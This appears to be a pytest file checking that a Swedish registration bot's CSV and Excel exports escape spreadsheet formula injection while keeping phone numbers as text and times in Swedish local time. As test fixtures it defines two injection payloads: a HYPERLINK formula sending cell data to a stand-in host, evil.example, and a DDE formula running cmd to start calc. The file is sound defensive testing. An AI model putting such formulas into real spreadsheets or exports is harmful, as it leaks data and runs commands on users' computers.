"""CSV for Excel through the CLI on real servers: what senders wrote never becomes a formula
(OWASP CSV injection) in the export, the registrar's list or the .xlsx; phone and org numbers
stay text; Swedish headings and Swedish local times; JSON keeps its contract."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from parsers.model import Contact
from tests.support.bot_process import Bot
from tests.support.formbuilder import FillValues
from tests.support.staff_mail import DOCX, form, mail

pytestmark = pytest.mark.slow

HOSTILE_PLAN = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Klicka\")"
HOSTILE_SUBJECT = "@SUM(1+1)*cmd|' /C calc'!A0 Dnr 801-9838-2024"


@pytest.fixture
def bot(mailbox, smtp_server, tmp_path) -> Bot:
    bot = Bot(mailbox, smtp_server, f"sqlite:///{tmp_path}/intake.db", tmp_path, {})
    values = FillValues(organisation="Alingsås kommun", org_number="212000-9622",
                        contact=Contact("-Linnea Lindqvist", "+Strateg", "linnea.lindqvist@alingsas.se", "0709171398"),
                        goals=(3,), plan=HOSTILE_PLAN)
    bot.mailbox.append([mail(1, "linnea.lindqvist@alingsas.se", subject=HOSTILE_SUBJECT,
                             attachment=("Anslutning.docx", DOCX, form(values)))], dated=True)
    bot.poll(now="2025-06-02T09:00:00+02:00")
    return bot


def rows_of(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def test_the_export_csv_is_for_swedish_excel_and_runs_nothing(bot: Bot) -> None:
    text = bot.run("export", "--format", "csv").stdout
    assert text.startswith("\ufeffKampanj;Diarienummer;Organisation;Organisationsnummer;Typ av organisation;"
                           "Kontaktperson;Titel;E-post;Telefon;Beslutande organ;Paragraf;Beslutsdatum;"
                           "Beslutets diarienummer;Mål;Informationsträffar;Planerat arbete;Status;Problem;Version;"
                           "Meddelande-id;Avsändare;Inkom;Bilaga;Uppdaterad\n")
    (row,) = rows_of(text)
    assert row["Planerat arbete"] == "'" + HOSTILE_PLAN
    assert (row["Kontaktperson"], row["Titel"]) == ("'-Linnea Lindqvist", "'+Strateg")
    assert row["Telefon"] == "070-917 13 98" and row["Organisationsnummer"] == "212000-9622"  # text to Excel
    assert row["Status"] in ("registrerad", "behöver granskas")
    assert row["Inkom"] == "2025-06-02 08:00"  # the message's Date, 08:00 +02:00, in Swedish local time
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in csv.reader(io.StringIO(text), delimiter=";")
               for cell in r)

    (record,) = bot.export()  # JSON: the contract, values as stored
    assert record["plan_text"] == HOSTILE_PLAN and record["contact"]["phone"] == "+46709171398"
    assert record["source"]["received_at"].endswith("+00:00")


def test_the_registrar_csv_runs_nothing(bot: Bot) -> None:
    (row,) = rows_of(bot.run("registrar", "--format", "csv").stdout)
    assert row["Ämne"] == "'" + HOSTILE_SUBJECT


def test_the_xlsx_keeps_such_text_as_text(bot: Bot) -> None:
    out = bot.workdir / "a.xlsx"
    bot.run("export", "--format", "xlsx", "--output", str(out))
    sheet = openpyxl.load_workbook(out)["Jämställt Västra Götaland"]
    headings = [c.value for c in sheet[1]]
    cell = sheet.cell(2, headings.index("Planerat arbete") + 1)
    assert (cell.value, cell.data_type) == (HOSTILE_PLAN, "s")
    assert sheet.cell(2, headings.index("Telefon") + 1).value == "070-917 13 98"
